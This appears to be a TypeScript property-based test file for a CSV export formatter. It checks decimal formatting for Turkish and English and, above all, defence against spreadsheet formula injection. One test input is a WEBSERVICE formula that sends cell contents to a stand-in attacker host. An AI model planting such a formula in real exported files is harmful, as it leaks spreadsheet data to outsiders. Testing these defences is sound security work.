import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { csvLineFormat, withFormula, withoutFormula } from "./csv.ts";

const read = (line: string): string[][] => parse(line, { delimiter: ";", relaxColumnCount: true });

const english = csvLineFormat("en");
const turkish = csvLineFormat("tr");

test("amounts have the decimal sign of the language, and are never changed", () => {
  assert.equal(turkish([{ amount: "1250.50" }, 3, null]), '"1250,50";3;\r\n');
  assert.equal(english([{ amount: "-5.00" }]), "-5.00\r\n");
});

test("a program that separates at semicolons, commas and tabs reads the same cells", () => {
  const row = [{ amount: "1250.50" }, "Işık, Öz; Ltd.\tŞti.", 'a "b"', { amount: "-0.05" }, "end"];
  assert.deepEqual(parse(turkish(row), { delimiter: [";", ",", "\t"] }), [
    ["1250,50", "Işık, Öz; Ltd.\tŞti.", 'a "b"', "-0,05", "end"],
  ]);
});

/** As a program reads the file that separates at this character, and does not see quotes inside a cell as quotes. */
function cellsOf(text: string, separator: string): string[] {
  return text.split(/\r\n|[\r\n]/).flatMap((line) => line.split(separator).map((cell) => cell.replace(/^[\s"]+/, "")));
}

test("no part of a text is a formula, whichever of ; , and tab a program separates at", () => {
  const begins = fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠");
  const parts = fc.oneof(
    begins,
    fc.constantFrom(",", ";", "\t", "\r", "\n", '"', " ", "\u00A0", "\0", "'"),
    fc.string(),
  );
  const isFormula = (cell: string) => /^[=+\-@＝＋－＠]/.test(cell);
  const check = (text: string) => {
    for (const separator of [",", ";", "\t"])
      assert.deepEqual(cellsOf(turkish(["first", text, "end"]), separator).filter(isFormula), [], JSON.stringify(text));
    const [[, cell = ""] = []] = read(turkish(["first", text, "end"]));
    assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/);
  };
  for (const text of ["=1+1", "+90532", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\0=1", "＝1"]) check(text);
  check('Ali,=WEBSERVICE("https://evil.example/"&A1),');
  fc.assert(fc.property(fc.array(parts, { maxLength: 12 }), (texts) => check(texts.join(""))));
});

test("a text that cannot be a formula is read back as it was, whatever characters it has", () => {
  const harmless = fc.string({ unit: "binary" }).map((text) => text.replaceAll(/[=+\-@＝＋－＠]/g, "x"));
  fc.assert(
    fc.property(fc.array(harmless, { minLength: 1, maxLength: 5 }), (texts) => {
      const [cells = []] = read(english([...texts, "end"]));
      assert.deepEqual(
        cells.slice(0, -1),
        texts.map((text) => text.replaceAll("\0", "")),
      );
    }),
  );
  assert.equal(english(["Işık Ltd. - 2 x @home", "end"]), "Işık Ltd. - 2 x @home;end\r\n");
});

test("what keeps a text from being a formula is taken away again when the file comes back", () => {
  const parts = fc.constantFrom("=", "+", "-", "@", "＝", ",", ";", "\t", "\n", '"', " ", "a", "1", "\u200b");
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 12 }), (texts) => {
      const text = texts.join("");
      assert.equal(withFormula(withoutFormula(text)), text);
    }),
  );
  for (const text of ["it's", "'", "a'=1", "O'Neil = 1"]) assert.equal(withFormula(text), text);
});
